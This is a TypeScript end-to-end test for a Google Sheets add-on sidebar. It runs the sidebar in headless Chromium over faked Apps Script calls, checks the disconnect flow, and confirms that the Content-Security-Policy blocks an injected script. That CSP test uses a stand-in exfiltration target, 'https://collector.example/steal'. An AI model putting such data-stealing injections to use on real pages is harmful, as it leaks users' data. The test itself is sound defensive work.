/**
 * The whole Sheets add-on without Google: the built Sidebar.html in Chromium, whose
 * `google.script.run` calls the built Code.js (loaded as Apps Script loads it, with the fakes),
 * whose UrlFetchApp reaches the real sandbox. One user flow: the pane lists the placement under the
 * active cell and disconnects it.
 */
import { pathToFileURL } from "node:url";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_API_KEY } from "../../../src/sandbox/demo.js";
import { OTHER_WORKBOOK } from "../../../src/sandbox/demo-workbook.js";
import { type SpawnedSandbox, spawnSandbox } from "../../sandbox/spawn-sandbox.js";
import { attemptInjection, cspViolations, recordCspViolations } from "../csp.js";
import { callOk, cloneAcrossScriptRun, DIST, forwardTo, loadAppsScript, type World } from "./apps-script.js";

const CHROMIUM_PATH = "/usr/bin/chromium";

/** google.script.run in the page: each call goes to the test's `__appsScript` binding. */
const FAKE_SCRIPT_RUN = `
(() => {
  const make = (onSuccess, onFailure) => new Proxy({}, {
    get(_t, name) {
      if (name === "withSuccessHandler") return (fn) => make(fn, onFailure);
      if (name === "withFailureHandler") return (fn) => make(onSuccess, fn);
      return (...args) => {
        window.__appsScript(name, JSON.stringify(args)).then(
          (text) => onSuccess && onSuccess(JSON.parse(text)),
          (error) => onFailure && onFailure(new Error(String(error && error.message || error))),
        );
      };
    },
  });
  window.google = { script: { run: make() } };
})();
`;

let sandbox: SpawnedSandbox;
let browser: Browser;
let world: World;
const calls: string[] = [];
const pageErrors: string[] = [];

beforeAll(async () => {
  sandbox = await spawnSandbox();
  browser = await chromium.launch({
    executablePath: CHROMIUM_PATH,
    args: ["--headless", "--no-sandbox", "--disable-gpu"],
  });
});

afterAll(async () => {
  await browser?.close();
  await sandbox?.stop();
});

async function openSidebar(): Promise<Page> {
  world = loadAppsScript({
    spreadsheetId: OTHER_WORKBOOK.id,
    spreadsheetName: OTHER_WORKBOOK.name,
    sheets: OTHER_WORKBOOK.sheets.map((s) => ({ id: Number(s.id), name: s.name, cell: "A1" })),
    activeSheet: "KPIs",
    fetch: forwardTo(),
  });
  callOk(world, "saveSettings", { tenantUrl: sandbox.url, deploymentId: 1, apiKey: DEMO_API_KEY });
  world.select("KPIs", "C3");
  const page = await browser.newPage({ viewport: { width: 300, height: 800 } });
  await page.exposeFunction("__appsScript", (name: string, args: string) => {
    calls.push(name);
    return JSON.stringify(cloneAcrossScriptRun(world.global[name](...JSON.parse(args))));
  });
  await page.addInitScript(FAKE_SCRIPT_RUN);
  await recordCspViolations(page);
  page.on("pageerror", (e) => pageErrors.push(e.message));
  await page.goto(pathToFileURL(`${DIST}/Sidebar.html`).href);
  return page;
}

describe("Sidebar.html in Chromium over the built Code.js and the sandbox", () => {
  it("shows this spreadsheet's placement under the cell and disconnects it in one server call", async () => {
    const page = await openSidebar();
    await page.getByText("Google Sheets", { exact: false }).first().waitFor({ timeout: 15_000 });
    await page
      .getByText(/KPIs!A1:E7/)
      .first()
      .waitFor({ timeout: 15_000 });
    expect(calls).toContain("refreshPane");
    calls.length = 0;
    await page.getByRole("button", { name: "Disconnect report here" }).first().click();
    await page
      .getByText(/Disconnected Revenue by Region from KPIs!A1:E7/)
      .first()
      .waitFor({ timeout: 15_000 });
    expect(calls.filter((c) => c !== "getActiveContext")).toEqual(["disconnectPlacement"]);
    expect(world.requests.filter((r) => r.method === "DELETE")).toHaveLength(1);
    if (process.env.SHEETS_SIDEBAR_SCREENSHOT)
      await page.screenshot({ path: process.env.SHEETS_SIDEBAR_SCREENSHOT });
    expect(pageErrors).toEqual([]);
    // The page's Content-Security-Policy allowed everything the flow needed.
    expect(await cspViolations(page)).toEqual([]);
    await page.close();
  });

  it("its Content-Security-Policy is enforced: an injected handler does not run, no request leaves the page", async () => {
    const page = await openSidebar();
    // (The first test disconnected the placement; the pane has loaded once its heading is there.)
    await page.getByRole("heading", { name: /Reports in this/ }).waitFor({ timeout: 15_000 });
    const outcome = await attemptInjection(page, "https://collector.example/steal");
    // 'unsafe-inline' is required for the inlined bundle, so an inline <script> element would run;
    // what the policy stops is the request out, which is what would carry anything away.
    expect(outcome.fetched).toBe(false);
    const violations = await cspViolations(page);
    expect(violations).toContainEqual({
      directive: "connect-src",
      blockedURI: "https://collector.example/steal",
    });
    expect(violations.map((v) => v.directive)).not.toContain("script-src-elem");
    await page.close();
  });
});
